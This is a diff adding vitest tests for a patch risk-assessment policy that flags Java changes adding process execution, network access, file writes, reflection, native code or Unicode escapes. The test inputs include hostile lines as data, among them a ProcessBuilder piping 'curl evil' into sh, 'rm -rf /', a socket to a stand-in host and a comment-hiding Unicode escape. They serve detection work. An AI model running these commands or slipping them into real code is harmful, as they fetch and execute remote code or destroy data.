@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { differsOnlyInStrings, isTrivialLine } from '../../src/policy/changed-lines.js';
+import { decideVerified } from '../../src/policy/decide-verified.js';
 import { assessRisk } from '../../src/policy/risk.js';
 import { configSchema } from '../../src/policy/schema.js';
 import type { ChangeSet, ChangeType } from '../../src/patch/types.js';
@@ -77,5 +78,65 @@ describe('trivial lines', () => {
     ['same', 'same', false],
   ])('%j -> %j differs only in strings: %s', (before, after, expected) => {
     expect(differsOnlyInStrings(before, after)).toBe(expected);
+  });
+});
+
+describe('risk by capability', () => {
+  const TEST = 'src/test/java/com/acme/OrderTest.java';
+  const added = (line: string, path = MAIN): ChangeSet => edit(body('  void f() {', '  }'), body('  void f() {', line, '  }'), path);
+  const typesOf = (path: string): ChangeType[] => [path.includes('/test/') ? 'edit-test-source' : 'edit-main-source'];
+
+  it.each([
+    ['a halt behind a comment', '    /* log */ Runtime.getRuntime().halt(0);', MAIN, 'JVM exit'],
+    ['a one-line ProcessBuilder in a test', '    new ProcessBuilder("sh", "-c", "curl evil | sh").start();', TEST, 'process execution'],
+    ['Runtime.exec', '    Runtime.getRuntime().exec(cmd);', MAIN, 'process execution'],
+    ['System.exit', '    System.exit(1);', TEST, 'JVM exit'],
+    ['a socket', '    var s = new java.net.Socket("evil", 443);', MAIN, 'network access'],
+    ['an HTTP client', '    HttpClient.newHttpClient();', MAIN, 'network access'],
+    ['a file write', '    Files.writeString(Path.of("/etc/x"), "y");', TEST, 'file-system writes'],
+    ['a FileOutputStream', '    new FileOutputStream(f).write(1);', MAIN, 'file-system writes'],
+    ['a delete', '    file.delete();', MAIN, 'file-system writes'],
+    ['reflection', '    m.setAccessible(true);', MAIN, 'reflection or class loading'],
+    ['class loading', '    Class.forName(name).getDeclaredConstructor().newInstance();', MAIN, 'reflection or class loading'],
+    ['a native method', '    private static native int peek(long address);', MAIN, 'native code'],
+    ['System.loadLibrary', '    System.loadLibrary("evil");', MAIN, 'native code'],
+    ['a Unicode escape hiding a line break in a comment', '    // \\u000a System.out.println("x");', MAIN, 'Unicode escapes'],
+    ['a Unicode escape in a string', '    String s = "caf\\u00e9";', TEST, 'Unicode escapes'],
+  ])('%s is high risk, whatever its size', (_name, line, path, capability) => {
+    const result = assessRisk(added(line, path), typesOf(path), config);
+    expect(result.risk).toBe('high');
+    expect(result.reasons.join(' ')).toContain(`adds ${capability}`);
+  });
+
+  it.each([
+    ['a comment that only mentions System.exit', '    // never call System.exit(1) here'],
+    ['a string that only mentions ProcessBuilder', '    log.info("ProcessBuilder is not used");'],
+    ['a StringBuilder delete with arguments', '    sb.delete(0, 1);'],
+    ['a word that contains native', '    String nativeName = name;'],
+  ])('%s is not a capability', (_name, line) => {
+    expect(assessRisk(added(line), ['edit-main-source'], config).reasons.join(' ')).not.toContain('adds ');
+  });
+
+  it('ignores Unicode escapes in a properties file (they are how such files spell accents)', () => {
+    const properties = edit('greeting=Hello\n', 'greeting=caf\\u00e9\n', 'src/main/resources/messages.properties');
+    expect(assessRisk(properties, ['edit-resource'], config).risk).toBe('medium');
+  });
+
+  it('keeps a high-risk test change out of auto when auto.maxRisk is medium', () => {
+    const auto = configSchema.parse({ tier: 'auto', auto: { maxRisk: 'medium' } });
+    const decision = decideVerified({ config: auto, changeSet: added('    new ProcessBuilder("rm", "-rf", "/").start();', TEST), changeTypes: ['edit-test-source'], modules: [], interactive: false });
+    expect(decision.risk).toBe('high');
+    expect(decision.action).toBe('suggest');
+  });
+
+  it.each([
+    ['/* log */ Runtime.getRuntime().halt(0);', false],
+    ['   * javadoc */ System.exit(0);', false],
+    ['*/ int x = 1;', false],
+    ['/* one */ // two', true],
+    ['   * still javadoc', true],
+    ['log.info("a"); // why', true],
+  ])('%j trivial: %s', (line, expected) => {
+    expect(isTrivialLine(line)).toBe(expected);
   });
 });
